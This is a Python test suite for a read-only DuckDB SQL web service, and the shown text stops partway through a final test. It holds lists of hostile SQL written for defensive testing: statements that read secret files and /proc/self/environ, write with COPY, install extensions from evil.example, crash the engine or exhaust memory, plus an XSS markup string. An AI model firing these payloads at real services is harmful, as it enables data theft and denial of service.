"""Statements and texts that mean harm: refused, stopped within the limits, or shown as the text that they are."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import re
import signal
import socket
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import duckdb
import httpx
import psutil
import pytest
from helpers.served import Served, served
from starlette.exceptions import HTTPException

import kdb
from kdb.errors import EngineError, QueryError
from kdb.warehouse.database import Database
from kdb.warehouse.folder_storage import FolderStorage
from kdb.warehouse.functions import COMPUTE, LOCAL
from kdb.warehouse.limits import Limits
from kdb.warehouse.manifest import run_id
from kdb.warehouse.statements import public_message, refusal
from kdb.warehouse.store import Warehouse
from kdb.web import guard, worker
from kdb.web.pages import PAGES

pytestmark = pytest.mark.slow

SECRET = "the-secret-of-the-file"

REFUSED = [
    # Files
    "SELECT * FROM read_csv('{secret}')",
    "SELECT * FROM read_text('{secret}')",
    "SELECT * FROM read_blob('{secret}')",
    "SELECT * FROM '{secret}'",
    'SELECT * FROM "{secret}"',
    "FROM glob('/etc/*')",
    "FROM glob('{lake}/**')",
    "SELECT * FROM read_json_auto('{secret}')",
    "SELECT * FROM read_parquet('{lake}/*/*/*/runs/*.parquet')",
    "SELECT * FROM '{lake}/model=tiny/dataset=weather/run=x/runs/all.parquet'",
    "SELECT * FROM parquet_metadata('{lake}/*/*/*/runs/*.parquet')",
    "SELECT * FROM parquet_scan('{lake}/*/*/*/runs/*.parquet')",
    "SELECT * FROM sniff_csv('{secret}')",
    "SELECT * FROM read_csv_auto('/dev/stdin')",
    "SELECT * FROM read_text('/proc/self/environ')",
    "SUMMARIZE '{secret}'",
    "DESCRIBE SELECT * FROM read_csv('{secret}')",
    'WITH "{secret}" AS (SELECT 1) SELECT * FROM (SELECT * FROM "{secret}")',
    "SELECT (SELECT content FROM read_text('{secret}'))",
    "SELECT 1 WHERE EXISTS (FROM read_text('{secret}'))",
    "SELECT * FROM runs JOIN LATERAL (SELECT * FROM read_text('{secret}')) ON true",
    "SELECT * FROM query('SELECT * FROM read_text(''{secret}'')')",
    "SELECT * FROM query_table(['{secret}'])",
    "FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))",
    "COPY runs TO '{written}'",
    "COPY (SELECT 1) TO '{written}' (FORMAT parquet)",
    "COPY runs FROM '{secret}'",
    "EXPORT DATABASE '{written}'",
    "IMPORT DATABASE '{written}'",
    "EXPLAIN ANALYZE COPY (SELECT 1) TO '{written}'",
    "EXPLAIN SELECT * FROM runs",
    # Other databases, extensions, the network
    "ATTACH '{written}' AS other",
    "ATTACH ':memory:' AS other",
    "DETACH memory",
    "USE information_schema",
    "INSTALL httpfs",
    "LOAD httpfs",
    "FORCE INSTALL json FROM 'http://evil.example'",
    "SELECT * FROM 'https://evil.example/x.parquet'",
    "SELECT * FROM read_parquet('s3://bucket/x.parquet')",
    "FROM postgres_scan('host=evil.example', 'public', 'x')",
    "FROM sqlite_scan('{secret}', 'x')",
    # Settings, secrets, the catalog
    "SET memory_limit = '100GB'",
    "SET enable_external_access = true",
    "SET lock_configuration = false",
    "RESET memory_limit",
    "SET VARIABLE kdb_runs = ['x']",
    "PRAGMA enable_profiling",
    "PRAGMA database_list",
    "PRAGMA temp_directory = '{written}'",
    "CREATE SECRET s (TYPE s3)",
    "FROM duckdb_secrets()",
    "SELECT * FROM which_secret('s3://x', 's3')",
    "SELECT current_setting('temp_directory')",
    "SELECT getvariable('kdb_runs')",
    "SELECT getenv('HOME')",
    "FROM duckdb_settings()",
    "FROM duckdb_settings",
    "FROM duckdb_views()",
    "SELECT sql FROM duckdb_views",
    "SUMMARIZE duckdb_views",
    "SELECT view_definition FROM information_schema.views",
    "FROM pg_catalog.pg_views",
    "FROM system.main.duckdb_views",
    "FROM sqlite_master",
    "FROM pragma_storage_info('runs')",
    "WITH duckdb_views AS (SELECT 1) SELECT * FROM main.duckdb_views",
    "SELECT * FROM (WITH duckdb_views AS (SELECT 1) FROM duckdb_views), duckdb_views",
    "FROM duckdb_extensions()",
    "FROM duckdb_temporary_files()",
    "FROM duckdb_logs()",
    "SELECT write_log('x')",
    "FROM enable_logging()",
    "CALL enable_logging()",
    "CALL pragma_version()",
    "FROM test_all_types()",
    "FROM checkpoint()",
    "FROM arrow_scan(1, 2, 3)",
    "FROM pandas_scan(1)",
    "FROM seq_scan('x')",
    # Changes
    "CREATE TABLE t AS SELECT 1",
    "CREATE VIEW v AS SELECT 1",
    "CREATE MACRO f(x) AS x",
    "CREATE TEMP TABLE t (i INT)",
    "CREATE SEQUENCE s",
    "CREATE TYPE mood AS ENUM ('a')",
    "DROP VIEW runs",
    "ALTER VIEW runs RENAME TO x",
    "INSERT INTO runs VALUES (1)",
    "DELETE FROM runs",
    "UPDATE runs SET run = 'x'",
    "TRUNCATE runs",
    "BEGIN",
    "CHECKPOINT",
    "VACUUM",
    "PREPARE p AS SELECT 1",
    "EXECUTE p",
    "SELECT nextval('s')",
    "SELECT 1; DROP VIEW runs",
    "SELECT 1;;SELECT 2",
    "COMMENT ON VIEW runs IS 'x'",
    # Hidden in comments, behind EXPLAIN, among spaces that are none, behind other statements
    " --EXPLAIN\nEXPLAIN ANALYZE COPY (SELECT 1) TO '{written}' /*\nSELECT 1 --*/",
    "/* EXPLAIN */ EXPLAIN ANALYZE COPY (SELECT 1) TO '{written}'",
    "EXPLAIN -- EXPLAIN ANALYZE SELECT 1\nANALYZE COPY (SELECT 1) TO '{written}'",
    "EXPLAIN (ANALYZE, FORMAT json) COPY (SELECT 1) TO '{written}'",
    "EXPLAIN\u00a0ANALYZE\u00a0COPY (SELECT 1) TO '{written}'",
    "\u3000COPY (SELECT 1) TO '{written}'",
    "\ufeffCOPY (SELECT 1) TO '{written}'",
    "EXPLAIN EXPLAIN SELECT 1",
    "EXPLAIN ANALYZE SELECT 1; COPY (SELECT 1) TO '{written}'",
    "SELECT 1\0; COPY (SELECT 1) TO '{written}'",
    "PIVOT runs ON run USING count(*)",
    "FROM (PIVOT runs ON run)",
    "WITH x AS (COPY runs TO '{written}') FROM x",
    "MERGE INTO runs USING runs ON true WHEN MATCHED THEN DELETE",
    # What tells of the server, in every place that takes an expression
    *(
        f"SELECT {call}"
        for call in ("\"getvariable\"('kdb_lake')", "GETVARIABLE('kdb_lake')", "'kdb_lake'.getvariable()")
    ),
    "SELECT system.main.getvariable('kdb_lake')",
    "SELECT list_transform(['kdb_lake'], lambda x: getvariable(x))",
    "SELECT [getvariable(x) for x in ['kdb_lake']]",
    "SELECT list_aggregate(['kdb_lake'], 'getvariable')",
    "FROM range(length(getvariable('kdb_lake')))",
    "SELECT 1 LIMIT length(getvariable('kdb_lake'))",
    "SELECT 1 ORDER BY getvariable('kdb_lake')",
    "SELECT DISTINCT ON (getvariable('kdb_lake')) 1",
    "SELECT count(*) FILTER (getvariable('kdb_lake') LIKE '/%')",
    "SELECT count(*) OVER (PARTITION BY getvariable('kdb_lake'))",
    "SELECT * REPLACE (getvariable('kdb_lake') AS run) FROM runs",
    "SELECT COLUMNS(getvariable('kdb_lake')) FROM runs",
    "SELECT COLUMNS(c -> c = getvariable('kdb_lake')) FROM runs",
    "VALUES (getvariable('kdb_lake'))",
    "PIVOT (SELECT getvariable('kdb_lake') AS a) ON a IN ('a') USING count(*)",
    "UNPIVOT (SELECT getvariable('kdb_lake') AS a) ON a",
    "FROM runs ASOF JOIN runs r2 ON getvariable('kdb_lake') >= r2.run",
    "FROM runs, LATERAL (SELECT getvariable('kdb_lake'))",
    "WITH a AS MATERIALIZED (SELECT getvariable('kdb_lake')) FROM a",
    "DESCRIBE SELECT getvariable('kdb_lake')",
    "SUMMARIZE SELECT getvariable('kdb_lake') AS x",
    "SELECT 1 UNION ALL SELECT length(getvariable('kdb_lake'))",
    # Lists of the server's, and its catalog
    "SHOW VARIABLES",
    "FROM (SHOW VARIABLES)",
    'SHOW "variables"',
    "SHOW DATABASES",
    "SHOW memory_limit",
    "SHOW TABLES FROM pg_catalog",
    "DESCRIBE duckdb_settings()",
    "SELECT * FROM (SUMMARIZE FROM duckdb_settings())",
    "SELECT current_query()",
    "SELECT version()",
    "SELECT inet_server_addr()",
    "SELECT pg_get_viewdef(1)",
    "SELECT stats(run) FROM runs",
    "FROM pg_settings",
    "SELECT * FROM (WITH pg_class AS (SELECT 1) FROM pg_class), pg_class",
    "FROM duckdb_variables()",
    "FROM duckdb_external_file_cache()",
    # What binds or runs a text
    "SELECT json_serialize_plan('EXPORT DATABASE ''{written}''')",
    "SELECT json_serialize_plan('SELECT getvariable(''kdb_lake'')', optimize := true)",
    "SELECT json_serialize_sql('SELECT 1')",
    "SELECT json_deserialize_sql(json_serialize_sql('SELECT 1'))",
    "FROM query_table('runs')",
    "FROM histogram_values(runs, run)",
    "FROM summary((FROM runs))",
    "SELECT make_type('INTEGER')",
    # What does more than compute
    "SELECT setseed(0.1)",
    "SELECT sleep_ms(10)",
    "SELECT pg_sleep(1)",
    "SELECT txid_current()",
    "FROM truncate_duckdb_logs()",
    # What crashes DuckDB
    'SELECT json_deserialize_sql(\'{"error":false,"statements":[{"node":{"type":"SELECT_NODE"}}]}\')',
    "SELECT array_resize('x'::VARIANT, [1], 1)",
    "SELECT 1::STRUCT(a MAP(INT, VARIANT))",
    "SELECT sum(1) EXPORT_STATE",
    "SELECT combine(NULL, NULL)",
    "SELECT finalize('x'::BLOB)",
    "SELECT __internal_decompress_string(1)",
    "SELECT create_sort_key(1, 'ASC')",
    "SELECT reservoir_quantile(1.5, [])",
    "SELECT json_structure(repeat('[', 1000000) || repeat(']', 1000000))",
    "SELECT json_transform('1', repeat('[', 100000) || '\"INT\"' || repeat(']', 100000))",
    "SELECT json_contains(repeat('[', 1000000) || repeat(']', 1000000), '1')",
    "SELECT json_merge_patch(repeat('{\"a\":', 100000) || '1' || repeat('}', 100000), '{\"a\":1}')",
    f"SELECT {'abs(' * 900}1{')' * 900}",
    f"SELECT {'[' * 300}1{']' * 300}",
    f"SELECT {'- ' * 30_000}1",
    f"SELECT NULL::INT{'[]' * 500}",
    f"SELECT {'+'.join(['1'] * 30_000)}",
    # Messages that are cut in the middle of a character
    "SELECT from_binary('é🙂')",
    "SELECT regexp_matches('year', 'sum', 'é🙂')",
    # No statement at all
    "",
    ";",
    "--",
    "SELECT",
    "\x00",
    "SELECT '",
    "/* " * 1000,
    "(" * 20_000,
]


@pytest.mark.parametrize("statement", ["DROP VIEW runs", "COPY runs TO 'x'", "SET threads = 1"])
def test_what_does_not_read_is_refused_as_such(client: httpx.Client, statement: str) -> None:
    error = client.post("/api/sql", json={"sql": statement}).json()["error"]
    assert re.match(rf"SQL only reads here: {statement.split()[0]}\w* is refused", error), error


STOPPED = [
    "WITH RECURSIVE t(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM t) SELECT max(i) FROM t",
    "WITH RECURSIVE t(x) AS (SELECT 'x' UNION ALL SELECT x || x FROM t) SELECT count(*) FROM t",
    "SELECT count(*) FROM range(1000000000) a, range(1000000000) b WHERE a.range * b.range = -1",
    "SELECT count(*) FROM prompts a, prompts b, prompts c, prompts d, range(100000000) WHERE a.text < b.text",
    "SELECT list_sum(range(3000000000::BIGINT))",
    "SELECT sum(length(repeat('x', 3000000 + i::INTEGER))) FROM range(2048) t(i)",
    "SELECT length(lpad('x', 2000000000, 'ab'))",
    "SELECT bitstring('1', 2000000000::INTEGER)::VARCHAR",
    "SELECT levenshtein(repeat('a', 90000), repeat('b', 90000))",
    "SELECT array_agg(i) FROM range(2000000000) t(i)",
    "SELECT string_agg(repeat('x', 1000)) FROM range(100000000)",
    "FROM range(100000000000)",
    "SELECT * FROM range(10000000) t(i) ORDER BY hash(i)",
    "SELECT list_transform(range(100000000), x -> list_transform(range(1000), y -> x * y))",
    "SELECT DISTINCT a.range * b.range FROM range(1000000) a, range(1000000) b",
    "SELECT count(*) FROM generate_series(TIMESTAMP '0001-01-01', TIMESTAMP '9999-01-01', INTERVAL 1 MICROSECOND)",
    "SELECT sum(regexp_matches(repeat('a', 9999 + i) || 'b', '^(a?){1000}a{1000}$')::INTEGER) FROM range(1000000) t(i)",
    "SELECT median(a.range + b.range) FROM range(100000) a, range(100000) b",
]


@pytest.fixture(scope="module")
def lake(tmp_path_factory: pytest.TempPathFactory, measured: Path) -> Path:
    return measured / "lake"


@pytest.fixture(scope="module")
def server(measured: Path) -> Iterator[Served]:
    # No statement that is refused or ordinary takes so long, or so much memory, on any machine.
    with served("--warehouse", measured, "--seconds", "300", "--memory", "1") as running:
        yield running


@pytest.fixture(scope="module")
def hasty(measured: Path) -> Iterator[Served]:
    """A server whose time limit is soon reached."""
    with served("--warehouse", measured, "--seconds", "2", "--memory", "0.25") as running:
        yield running


@pytest.fixture(scope="module")
def client(server: Served) -> Iterator[httpx.Client]:
    with server.client() as opened:
        yield opened


def assert_healthy(client: httpx.Client, server: Served) -> None:
    # A machine can be so slow that this statement, too, meets a limit of two seconds: then it is asked again.
    while "time limit" in (answered := client.post("/api/sql", json={"sql": "SELECT count(*) AS n FROM runs"})).text:
        pass
    assert answered.json() == [{"n": 1}]
    assert server.process.poll() is None


@pytest.mark.parametrize("statement", REFUSED)
def test_hostile_statement_is_refused(
    client: httpx.Client, server: Served, lake: Path, tmp_path: Path, statement: str
) -> None:
    secret, written = tmp_path / "secret.csv", tmp_path / "written"
    secret.write_text(f"a\n{SECRET}\n")
    before = sorted(lake.parent.rglob("*"))
    for key, path in {"secret": secret, "written": written, "lake": lake}.items():
        statement = statement.replace("{" + key + "}", str(path))
    answered = client.post("/api/sql", json={"sql": statement})
    assert answered.status_code == 400, answered.text[:300]
    # What was asked may be repeated; what is at the path may not be told, nor where the lake is.
    assert SECRET not in answered.text[:300]
    assert str(lake) not in answered.text or str(lake) in statement
    for told in ("site-packages", "Stack Trace", "/bin/python", "kdb-serve-"):
        assert told not in answered.text
    assert not written.exists()
    assert sorted(lake.parent.rglob("*")) == before
    page = client.get("/sql", params={"q": statement}) if len(statement) < 10_000 else answered
    assert SECRET not in page.text
    assert_healthy(client, server)


@pytest.mark.parametrize("statement", REFUSED)
def test_hostile_statement_neither_writes_nor_ends_the_owners_process(
    measured: Path, tmp_path: Path, statement: str
) -> None:
    secret, written = tmp_path / "secret.csv", tmp_path / "written"
    secret.write_text(f"a\n{SECRET}\n")
    for key, path in {"secret": secret, "written": written, "lake": measured / "lake"}.items():
        statement = statement.replace("{" + key + "}", str(path))
    before = sorted(measured.rglob("*"))
    with contextlib.suppress(QueryError):  # the catalog and the lake are the owner's to read
        kdb.open(measured).sql(statement)
    assert not written.exists()
    assert sorted(measured.rglob("*")) == before


@pytest.mark.parametrize("statement", STOPPED)
def test_endless_statement_is_stopped_within_its_limits(hasty: Served, statement: str) -> None:
    with hasty.client() as asking:
        answered = asking.post("/api/sql", json={"sql": statement})
        assert answered.status_code == 400, answered.text[:300]
        assert any(limit in answered.json()["error"] for limit in ("time limit", "MiB", "rows"))
        assert_healthy(asking, hasty)


ORDINARY = [
    "SELECT layer, avg(accuracy), stddev(accuracy), median(accuracy), quantile_cont(accuracy, 0.9) FROM probe_scores "
    "GROUP BY ROLLUP (layer) HAVING count(*) > 0 ORDER BY ALL",
    "SELECT layer, accuracy - lag(accuracy) OVER (PARTITION BY model, site ORDER BY layer) AS gain FROM probe_scores",
    "SELECT layer, rank() OVER w, dense_rank() OVER w, ntile(4) OVER w, percent_rank() OVER w, "
    "first_value(layer) OVER w "
    "FROM probe_scores WINDOW w AS (ORDER BY accuracy DESC ROWS BETWEEN 2 PRECEDING AND CURRENT ROW)",
    "FROM probe_scores QUALIFY row_number() OVER (PARTITION BY site ORDER BY accuracy DESC, layer) = 1",
    "SELECT site, arg_max(layer, accuracy), max_by(layer, accuracy, 2), mode(layer), list(layer ORDER BY layer) "
    "FROM probe_scores GROUP BY site",
    "WITH best AS (SELECT site, max(accuracy) AS top FROM probe_scores GROUP BY site) "
    "SELECT p.layer FROM probe_scores p JOIN best b ON p.site = b.site AND p.accuracy = b.top",
    "SELECT p.layer, b.layer FROM probe_scores p ASOF JOIN probe_scores b ON p.site = b.site AND p.layer >= b.layer",
    "SELECT run, t.name FROM runs, LATERAL (SELECT unnest(tables) AS name) t",
    "SELECT run FROM runs WHERE EXISTS (FROM probe_scores p WHERE p.run = runs.run) "
    "AND run IN (SELECT run FROM checks)",
    "PIVOT probe_scores ON layer IN (0, 1, 2) USING max(accuracy) GROUP BY model, site",
    "UNPIVOT (SELECT layer, accuracy, f1 FROM probe_scores) ON accuracy, f1 INTO NAME measure VALUE score",
    "SELECT list_avg(vector), list_max(vector), len(vector), vector[1], vector[1:3], list_sum(list_transform(vector, "
    "lambda x: x * x)), list_dot_product(vector, vector), list_cosine_similarity(vector, vector) FROM activations",
    "SELECT list_filter([1, 2, 3], lambda x: x > 1), list_reduce([1, 2], lambda x, y: x + y), "
    "list_sort([2, 1]), list_distinct([1, 1]), array_to_string(['a'], ','), flatten([[1]]), [x * 2 for x in [1, 2]]",
    "SELECT {'layer': 1, 'score': 0.5}.score, struct_pack(a := 1), map_keys(MAP {'a': 1}), MAP {'a': 1}['a']",
    "SELECT regexp_extract(text, '(\\w+)', 1), regexp_replace(text, '\\s+', ' ', 'g'), regexp_matches(text, 'a|e'), "
    "text SIMILAR TO '.*', text ILIKE '%A%', text LIKE '%a%', text GLOB '*', split_part(text, ' ', 1), "
    "lower(text) || '!', "
    "length(text), left(text, 3), replace(text, 'a', 'b'), trim(text), strpos(text, 'a'), contains(text, 'a'), "
    "string_split(text, ' '), levenshtein(text, 'x'), md5(text), printf('%d', label), format('{:.2f}', "
    "1.5) FROM prompts",
    "SELECT count(*), count(DISTINCT text), count(*) FILTER (label = 1), sum(label), bool_and(label >= 0), "
    "string_agg(text, ', ' ORDER BY prompt_id), approx_count_distinct(text), histogram(label), corr(label, prompt_id), "
    "regr_slope(label, prompt_id), skewness(label), any_value(text), entropy(label) FROM prompts",
    "SELECT json_extract_string(settings, '$.seed'), settings ->> '$.seed', settings::JSON -> 'seed', "
    "json_keys(settings), "
    "json_valid(settings), to_json({'a': 1}) FROM runs",
    "SELECT key, value FROM runs, json_each(settings)",
    "SELECT finished_at - started_at > INTERVAL 0 SECOND, date_trunc('hour', finished_at), "
    "extract(year FROM finished_at), "
    "strftime(finished_at, '%Y'), age(finished_at) IS NULL, epoch(finished_at), finished_at::DATE, "
    "now() > finished_at, "
    "current_date >= finished_at::DATE, finished_at AT TIME ZONE 'UTC', today(), dayname(finished_at) FROM runs",
    "SELECT round(1.234, 2), floor(1.5), ceil(1.5), abs(-1), sqrt(2), ln(2), log2(8), exp(1), power(2, 3), "
    "2 ** 3, 7 // 2, "
    "7 % 2, 5!, @ -1, ~1, 1 & 3, 1 | 2, 1 << 2, sign(-1), greatest(1, 2), least(1, 2), isnan('nan'::DOUBLE), pi(), "
    "random() < 2, bit_count(7), trunc(1.5), degrees(pi()), atan2(1, 1), gcd(4, 6)",
    "SELECT CASE WHEN layer > 1 THEN 'late' ELSE 'early' END AS part, coalesce(f1, 0), nullif(layer, 0), "
    "ifnull(f1, 1), "
    "if(layer = 0, 1, 2), try_cast('x' AS INTEGER), layer::VARCHAR, accuracy::DECIMAL(4, 2), typeof(layer), "
    "layer BETWEEN 0 AND 3, layer IS DISTINCT FROM 1, layer IN (1, 2) FROM probe_scores",
    "SELECT * EXCLUDE (run) REPLACE (accuracy * 100 AS accuracy) FROM probe_scores",
    "SELECT COLUMNS('acc.*') FROM probe_scores",
    "SELECT min(COLUMNS(* EXCLUDE (model, dataset, run))) FROM probe_scores",
    "SELECT layer FROM probe_scores UNION SELECT 99 EXCEPT SELECT 1 INTERSECT SELECT 1 ORDER BY 1 LIMIT 5 OFFSET 1",
    "FROM probe_scores USING SAMPLE 3 ROWS",
    "SELECT site, layer, count(*), grouping(site) FROM probe_scores GROUP BY GROUPING SETS ((site), (layer), ())",
    "WITH RECURSIVE up(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM up WHERE i < 3) SELECT * FROM up JOIN probe_scores "
    "ON layer = i",
    "SELECT i, i * 2 FROM range(10) t(i) WHERE i % 2 = 0",
    "VALUES (1, 'a'), (2, 'b')",
    "TABLE runs",
    "DESCRIBE SELECT * FROM probe_scores",
    "DESCRIBE runs",
    "SUMMARIZE probe_scores",
    "SHOW ALL TABLES",
    "SELECT run FROM runs WHERE among(model, ['tiny'])",
]
"""Ordinary statements of users: the list of allowed functions must be long enough for them."""


@pytest.mark.parametrize("statement", ORDINARY)
def test_ordinary_statement_is_answered_to_strangers_and_owners(
    client: httpx.Client, measured: Path, statement: str
) -> None:
    answered = client.post("/api/sql", json={"sql": statement}, headers={"accept": "text/csv"})
    assert answered.status_code == 200, answered.text[:300]
    assert not kdb.open(measured).sql(statement).is_empty()


@pytest.mark.parametrize("function", sorted(LOCAL))
def test_allowed_function_has_no_name_of_a_kind_that_does_more(function: str) -> None:
    more = (
        r"(read_(?!parquet)|glob$|query|write_|enable_|nextval|set(?!_bit)|json_(de)?serialize|json_execute|pg_sleep)"
    )
    assert re.match(more, function) is None
    if function in COMPUTE:
        assert (
            re.match(r"(current_setting|getvariable|getenv|duckdb_|pragma_|parquet_|version$|stats$)", function) is None
        )


def test_every_view_of_duckdbs_own_is_refused_by_its_bare_name(measured: Path, client: httpx.Client) -> None:
    named = "SELECT DISTINCT view_name FROM duckdb_views() WHERE internal AND schema_name <> 'information_schema'"
    views = kdb.open(measured).sql(named)["view_name"].to_list()
    assert len(views) > 20
    for view in views:
        text = f"SELECT * FROM (WITH {view} AS (SELECT 1) FROM {view}), {view}"
        assert client.post("/api/sql", json={"sql": text}).status_code == 400


# Faults of DuckDB and of the worker --------------------------------------------------------------------------------

STACK = """INTERNAL Error: Attempted to access index 0 within vector of size 0

Stack Trace:

/srv/secret/.venv/lib/python3.11/site-packages/_duckdb.cpython-311-x86_64-linux-gnu.so(_ZN6duckdb9Exception6) [0x7f]
/srv/secret/bin/python3.11(PyObject_Vectorcall+0x31) [0x55]

This error signals an assertion failure within DuckDB. This usually occurs due to unexpected conditions."""


def test_duckdbs_own_failure_is_told_in_one_line_without_its_stack(measured: Path) -> None:
    said = refusal(duckdb.InternalException(STACK))
    assert isinstance(said, EngineError)
    assert str(said).endswith("INTERNAL Error: Attempted to access index 0 within vector of size 0")
    with Database(measured / "lake") as database, pytest.raises(EngineError) as caught:
        database.batches("SELECT reservoir_quantile(1.5, [])")  # kdb's own SQL, which is not checked
    assert "\n" not in str(caught.value)
    assert "/" not in str(caught.value)


def test_duckdbs_own_failure_costs_the_worker_and_is_no_fault_of_the_asker(
    measured: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("kdb.warehouse.database.check_public", lambda _, text: text)
    asked = worker.Question("sql", {"text": "SELECT reservoir_quantile(1.5, [])", "format_": "json"}, (), ())
    opened = worker._Opened(kdb.open(measured), Limits(2**28, 1))
    (message,) = worker._answer(opened, asked)
    assert message[:1] == worker.FAILED  # after which the pool takes another worker
    assert "site-packages" not in json.loads(message[1:])["error"]


def test_paths_of_the_machine_are_not_told(tmp_path: Path) -> None:
    lake = tmp_path / "lake"
    text = f'IO Error: "{lake}/model=m/x.parquet" and "/usr/lib/x/y.so" and "/asked/for/this" and a/b and 1/2/3'
    assert public_message(text, lake, "FROM '/asked/for/this'") == (
        'IO Error: "lake/model=m/x.parquet" and "PATH" and "/asked/for/this" and a/b and 1/2/3'
    )


@pytest.mark.parametrize(("sign", "status", "blamed"), [(signal.SIGSEGV, 500, False), (signal.SIGKILL, 400, True)])
def test_memory_is_blamed_for_a_dead_worker_only_where_it_ran_out(
    measured: Path, sign: signal.Signals, status: int, blamed: bool
) -> None:
    with served("--warehouse", measured, "--workers", "1", "--seconds", "60") as running, running.client() as asking:
        answers: list[httpx.Response] = []
        thread = threading.Thread(target=lambda: answers.append(asking.post("/api/sql", json={"sql": STOPPED[2]})))
        thread.start()
        running.wait_until_busy(1)
        for forker in psutil.Process(running.process.pid).children():
            for child in forker.children():
                child.send_signal(sign)
        thread.join()
        assert answers[0].status_code == status
        assert ("memory" in answers[0].json()["error"]) == blamed
        assert "/" not in answers[0].json()["error"]
        assert_healthy(asking, running)


# Requests --------------------------------------------------------------------------------------------------------


def read_status(connection: socket.socket) -> bytes:
    """The status line of what the server answers."""
    with connection.makefile("rb") as answer:
        return answer.readline()


@pytest.mark.parametrize("line", ["POST /api/sql", "POST /login", "GET /", "PUT /nothing", "GET /healthz"])
def test_a_body_that_is_announced_too_long_is_refused_before_it_is_sent(server: Served, line: str) -> None:
    with socket.create_connection(server.address) as connection:
        head = f"{line} HTTP/1.1\r\nHost: {server.host}\r\nContent-Type: application/json\r\n"
        connection.sendall(f"{head}Content-Length: 500000000\r\n\r\n".encode())
        assert read_status(connection).split()[1] == b"413"


@pytest.mark.parametrize("line", ["POST /api/sql", "POST /login"])
def test_a_body_of_any_length_is_refused_while_it_is_read(server: Served, line: str) -> None:
    before = psutil.Process(server.process.pid).memory_info().rss
    chunk = b"10000\r\n" + b" " * 2**16 + b"\r\n"
    with socket.create_connection(server.address) as connection:
        head = f"{line} HTTP/1.1\r\nHost: {server.host}\r\nContent-Type: application/json\r\n"
        connection.sendall(f"{head}Transfer-Encoding: chunked\r\n\r\n".encode())
        sent = 0
        with contextlib.suppress(ConnectionError):  # the server answers, and hangs up
            while sent < 2**29:
                connection.sendall(chunk)
                sent += len(chunk)
        assert sent < 2**27
    assert psutil.Process(server.process.pid).memory_info().rss - before < 2**26
    with server.client() as asking:
        assert asking.post(line.split()[1], content=iter([b" " * 2**20])).status_code == 413


def test_a_body_that_does_not_come_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    async def receive() -> dict[str, object]:
        await asyncio.sleep(3600)
        return {}

    scope = {"type": "http", "headers": [(b"content-length", b"9")]}
    monkeypatch.setattr(guard, "_BODY_SECONDS", 0.05)
    with pytest.raises(HTTPException) as refused:
        asyncio.run(guard._Body(scope, receive).receive())
    assert refused.value.status_code == 408


def test_get_changes_nothing(server: Served, client: httpx.Client, measured: Path) -> None:
    routes = {
        **client.get("/api/openapi.json").json()["paths"],
        **dict.fromkeys(PAGES),
        "/login": None,
        "/metrics": None,
    }
    before = {path: path.stat().st_mtime_ns for path in measured.rglob("*")}
    for path in routes:
        for params in ({}, {"q": "DROP VIEW runs", "sql": "COPY runs TO 'x'", "token": "x", "model": "x", "k": "1"}):
            answered = client.get(path.replace("{name}", "runs"), params=params)
            assert answered.status_code < 500
            assert "set-cookie" not in answered.headers
    assert {path: path.stat().st_mtime_ns for path in measured.rglob("*")} == before
    writing = {(path, method) for path, told in routes.items() for method in told or () if method != "get"}
    assert writing == {("/api/sql", "post")}
    assert_healthy(client, server)


@pytest.mark.parametrize(
    "statement",
    [
        "SELECT 'COPY x TO y; ATTACH' AS read_csv",
        "WITH t AS (SELECT 1 AS duckdb_views) SELECT duckdb_views FROM t",
        "FROM concept_depth()",
        "SELECT * FROM main.runs AS read_csv",
        "SELECT * FROM memory.main.runs",
        "SELECT table_name FROM information_schema.tables",
        "SELECT unnest(tables), run FROM runs",
        "SELECT i FROM generate_series(1, 3) t(i)",
        "DESCRIBE runs",
        "SHOW TABLES",
        "SUMMARIZE runs",
        "WITH RECURSIVE t(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM t WHERE i < 9) FROM t",
        "PIVOT probe_scores ON layer IN (0, 1) USING avg(accuracy) GROUP BY model",
    ],
)
def test_harmless_statement_is_answered(client: httpx.Client, statement: str) -> None:
    answered = client.post("/api/sql", json={"sql": statement})
    assert answered.status_code == 200, answered.text[:300]
    assert answered.json()


# Texts -----------------------------------------------------------------------------------------------------------

MARKUP = """<script>alert('kdb')</script><img src=x onerror="alert(1)">{{ 7 * 7 }}&amp;"""


@pytest.fixture(scope="module")
def marked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A warehouse whose model, dataset, prompts and tokens are named after markup."""
    folder = tmp_path_factory.mktemp("marked") / "w"
    Warehouse.create(folder)
    lake = FolderStorage(folder)
    kept = {"kept": True, "target_prob": 0.5, "target_rank": 1, "target_token": MARKUP, "text": MARKUP}
    score = {"prompt_id": 0, "layer": 0, "score": 1.0, "rank": 1}
    rows = {
        "models": [{"family": MARKUP, "architecture": MARKUP, "n_layers": 1, "n_heads": 1, "n_params": 1}],
        "datasets": [{"study": "knowledge", "source": MARKUP, "n_prompts": 1}],
        "prompts": [{"prompt_id": 0, "category": MARKUP, "answer": MARKUP, **kept}],
        "layer_scores": [{**score, "component": "attn"}],
        "head_scores": [{**score, "head": 0}],
        "head_position_scores": [{**score, "head": 0, "position": 0, "token": MARKUP, "attention": 1.0}],
        "neuron_scores": [{**score, "component": "ffn", "neuron": 0}],
        "neuron_tokens": [
            {"component": "ffn", "layer": 0, "neuron": 0, "sign": "top", "rank": 1, "token": MARKUP, "logit": 1.0}
        ],
    }
    rows["models"][0] |= {"hidden_size": 1, "intermediate_size": 1}
    names = {
        field: [{k: v for k, v in row.items() if k != "rank" or "neuron" in row} for row in t]
        for field, t in rows.items()
    }
    with lake.stage(run_id({"test": 1}), MARKUP, MARKUP) as staged:
        for table, content in names.items():
            staged.write_rows(table, "part", content)
        staged.commit({"study": "knowledge", "variant": "default", "settings": "{}"})
    return folder


def test_markup_in_names_and_texts_is_shown_as_text(marked: Path) -> None:
    about = {"model": MARKUP}
    pages: dict[str, dict[str, str]] = {
        "/": {},
        "/model": about,
        "/compare": about | {"category": MARKUP},
        "/prompt": about,
        "/prompt ": about | {"dataset": MARKUP, "prompt": "0"},
        "/neuron": about | {"neuron": "f0_0"},
        "/head": about | {"layer": "0", "head": "0"},
        "/queries/prompts": about | {"dataset": MARKUP},
